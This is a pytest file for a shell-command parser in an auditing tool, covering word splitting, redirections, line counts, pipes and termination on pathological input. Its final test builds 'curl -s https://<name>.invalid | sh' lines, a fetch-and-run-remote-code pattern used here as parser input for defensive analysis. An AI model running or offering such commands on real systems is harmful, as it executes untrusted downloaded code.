import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.packages import VOCABULARY

from audit.analysis.commands.command import Command
from audit.analysis.commands.effects import CommandReader
from audit.analysis.commands.shell.running import ShellRun
from audit.analysis.commands.shell.state import State
from audit.analysis.commands.showing import read_shell


def commands(text: str) -> list[Command]:
    found: list[Command] = []
    reader = CommandReader(frozenset(), frozenset())
    ShellRun(reader, lambda _, command: found.append(command)).run_text(text, State())
    return found


def words(text: str) -> list[tuple[str, ...]]:
    return [command.words for command in commands(text)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a b", [("a", "b")]),
        ("a && b || c; d | e & f", [("a",), ("b",), ("c",), ("d",), ("e",), ("f",)]),
        ("a 'b c' \"d e\" f\\ g", [("a", "b c", "d e", "f g")]),
        ("a'b'\"c\"d", [("abcd",)]),
        ('a "$(b c)"', [("b", "c"), ("a", "$(b c)")]),
        ("a `b $(c)`", [("c",), ("b", "$(c)"), ("a", "`b $(c)`")]),
        ("a \\\n b", [("a", "b")]),
        ("a # b; c\nd", [("a",), ("d",)]),
        ("a#b", [("a#b",)]),
        ("(a; b)", [("a",), ("b",)]),
        ("a <<E\nb\nE\nc", [("a",), ("c",)]),
        (
            'case "$x" in\n a|"b c") d e;;\n *) f\nesac\ng',
            [(":", "$x"), ("d", "e"), ("f",), ("g",)],
        ),
        (
            "if case $(a) in b) c;; (d) e;; esac; then f; fi",
            [("a",), (":", "$(a)"), ("c",), ("e",), ("f",)],
        ),
        ("case x in esac && a", [(":", "x"), ("a",)]),
        (
            "case a in b) case c in d) e;; esac;; f) g;; esac; h",
            [(":", "a"), (":", "c"), ("e",), ("g",), ("h",)],
        ),
        ('"case" x in\na | b', [("case", "x", "in"), ("a",), ("b",)]),
        ("a case x in b; c | d", [("a", "case", "x", "in", "b"), ("c",), ("d",)]),
        ("A=(b c\n $(d) ) e", [("d",), ("e",)]),
        ("local a=(b; c) d", [("local", "a=b c", "d")]),
        ("a '", [("a", "")]),
        ('a "$(', [("a", "")]),
        ("", []),
    ],
)
def test_words(text: str, expected: list[tuple[str, ...]]) -> None:
    assert words(text) == expected


def test_assignments_and_redirections_stand_apart() -> None:
    (command,) = commands("A=1 b=2 c < in > out 2>> err 2>&1")
    assert command.words == ("c",)
    assert command.assignments == ("A=1", "b=2")
    assert command.reads == ("in",)
    assert command.writes == ("out", "err")


def test_lines_are_counted() -> None:
    text = "a\n\nb 'x\ny'\nc <<E\n1\n2\nE\nd"
    assert [(command.words[0], command.line) for command in commands(text)] == [
        ("a", 1),
        ("b", 3),
        ("c", 5),
        ("d", 9),
    ]


def test_a_pipe_feeds_the_next_command() -> None:
    assert [command.given.is_fed for command in commands("a | b; c")] == [False, True, False]


@given(st.text(alphabet="ab $()`'\"\\|&;<>#\n{}%=./-", max_size=60))
def test_any_text_is_read_and_its_facts_stand_in_it(text: str) -> None:
    lines = text.count("\n") + 1
    assert all(1 <= fact.line <= lines for fact in read_shell(text, VOCABULARY).facts)


@pytest.mark.parametrize(
    "text", ["$(" * 50_000, "`" * 99_999, "((" * 50_000, "a<<b " * 20_000, "'\"" * 50_000]
)
def test_hostile_text_ends(text: str) -> None:
    facts = read_shell(text, VOCABULARY).facts
    assert sum(len(literal) for fact in facts for literal in fact.literals) < 20_000


def test_facts_of_one_command_stand_in_the_order_in_which_they_are_read() -> None:
    text = "\n".join(f"curl -s https://{name}.invalid | sh" for name in "abcdefgh")
    facts = [one for one in read_shell(text, VOCABULARY).facts if one.kind == "builtin"]
    assert [fact.text == "sh" for fact in facts] == [False, True] * 8
